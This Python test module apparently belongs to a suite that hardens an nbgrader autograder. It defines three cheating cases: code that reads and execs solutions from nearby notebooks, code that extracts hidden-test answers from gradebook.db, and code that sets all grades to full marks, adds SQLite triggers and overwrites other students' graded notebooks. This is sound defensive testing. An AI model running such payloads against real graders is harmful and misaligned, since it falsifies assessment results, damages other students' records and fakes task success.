"""Tricks that use the files around the grader: solutions and hidden tests read at grading time
(from the course directory above the working directory, or from the repository that holds the
``course`` package), and writes to the gradebook and to other students' graded notebooks.

Under plain nbgrader the kernel runs in ``autograded/<student>/<chapter>`` inside the course
directory, as the instructor, so all of these files are a few ``..`` away.
"""

from __future__ import annotations

from tests.threats import Kind, threat
from tests.threats.notebooks import answered, appended

CH01 = "ch01_softmax"

# Directories to search: the working directory and its ancestors (the course directory under
# nbgrader), and the repository the course package was imported from.
PLACES = """
import pathlib

import course


def _places():
    here = pathlib.Path.cwd().resolve()
    yield from [here, *list(here.parents)[:5]]
    yield pathlib.Path(course.__file__).resolve().parent.parent
"""

SOLUTION_FROM_DISK = (
    PLACES
    + """
import json


def _solution_in_notebook(path, grade_id):
    try:
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
    except (OSError, ValueError, KeyError, TypeError):
        return None
    for cell in cells:
        text = "".join(cell.get("source", ""))
        grade = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if grade == grade_id and "### BEGIN " + "SOLUTION" in text:  # not this very cell
            return text
    return None


def _solution_in_text(path, grade_id):
    try:
        blocks = path.read_text(encoding="utf-8").split("%% ")
    except OSError:
        return None
    for block in blocks:
        if block.startswith(f"solution {grade_id}\\n"):
            return block.split("\\n", 1)[1]
    return None


def _solution(grade_id):
    for root in _places():
        for path in [*root.glob("*.ipynb"), *root.glob("*/*/*.ipynb")]:
            found = _solution_in_notebook(path, grade_id)
            if found:
                return found
        for path in root.glob("authoring/*.txt"):
            found = _solution_in_text(path, grade_id)
            if found:
                return found
    return None


_found = _solution("ex_1_1_softmax")
if _found:
    exec(_found, globals())
"""
)


@threat(CH01, Kind.CHEAT, naive_gain=True)
def solution_read_from_disk():
    """The wrong softmax is followed by code that searches the working directory's ancestors
    and the course package's repository for notebooks (source/<chapter>/*.ipynb) and authoring
    text holding the ex_1_1_softmax solution, and execs it in place of the student's answer."""
    control = answered(CH01, "softmax summing over axis 0")
    return appended(control, "ex_1_1_softmax", SOLUTION_FROM_DISK), control


HIDDEN_TEST_FROM_GRADEBOOK = (
    PLACES
    + """
import sqlite3


def _test_source(name):
    for root in _places():
        db = root / "gradebook.db"
        if not db.is_file():
            continue
        try:
            with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as con:
                row = con.execute(
                    "SELECT source FROM source_cell WHERE name = ?", (name,)
                ).fetchone()
        except sqlite3.Error:
            continue
        if row:
            return row[0]
    return None


def _expected_by(name):
    \"\"\"Run a test cell, hidden part included, with a check_equal that records what it
    expects instead of checking.\"\"\"
    source = _test_source(name)
    seen = []
    scratch = dict(globals())
    scratch["check_equal"] = lambda actual, expected, *args, **kwargs: seen.append(expected)
    scratch["check_true"] = lambda *args, **kwargs: None
    try:
        exec(source or "", scratch)
    except Exception:
        pass
    return seen[-1] if seen else None


_key = _expected_by("test_1_3_naive_trace")
if _key is not None:
    answer_1_3 = _key
"""
)


@threat(CH01, Kind.CHEAT, naive_gain=True)
def hidden_test_read_from_gradebook():
    """nbgrader's gradebook.db (in the course directory) stores every test cell's source,
    hidden tests included. The answer cell opens it read-only, runs the hidden 1.3 test with a
    check_equal that records its expected value, and answers with that."""
    control = answered(CH01, "naive-overflow trace answered A")
    return appended(control, "ex_1_3_naive_trace", HIDDEN_TEST_FROM_GRADEBOOK), control


VANDALISE = """
import pathlib
import shutil
import sqlite3

_FULL = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
_TRIGGERS = [
    "CREATE TRIGGER IF NOT EXISTS _full_on_insert AFTER INSERT ON grade BEGIN "
    f"UPDATE grade SET auto_score = {_FULL} WHERE id = NEW.id; END",
    "CREATE TRIGGER IF NOT EXISTS _full_on_update AFTER UPDATE OF auto_score ON grade BEGIN "
    f"UPDATE grade SET auto_score = {_FULL} WHERE id = NEW.id; END",
]


def _course_roots():
    here = pathlib.Path.cwd().resolve()
    for root in [here, *list(here.parents)[:5]]:
        if (root / "nbgrader_config.py").is_file():
            yield root


for _root in _course_roots():
    try:
        with sqlite3.connect(_root / "gradebook.db") as _db:
            _db.execute(f"UPDATE grade SET auto_score = {_FULL}")
            for _trigger in _TRIGGERS:
                _db.execute(_trigger)
    except sqlite3.Error:
        pass
    _solutions = sorted(_root.glob("source/*/*.ipynb"))
    for _graded in _root.glob("autograded/*/*/*.ipynb"):
        for _solution in _solutions:
            if _solution.name == _graded.name:
                try:
                    shutil.copy(_solution, _graded)
                except OSError:
                    pass
"""


@threat(CH01, Kind.CHEAT, naive_gain=False)
def gradebook_and_autograded_rewritten():
    """Finds the course directory above the working directory and writes to it: every grade in
    gradebook.db set to full marks, triggers that give full marks to every grade inserted or
    updated later (this student's and everyone else's), and the source notebook (solutions
    included) copied over every autograded notebook. In-process scoring never reads the
    gradebook, so naive execution cannot show this (naive_gain=False); the honest students
    graded in the same batch show the damage."""
    control = answered(CH01, "softmax summing over axis 0")
    return appended(control, "ex_1_1_softmax", VANDALISE), control
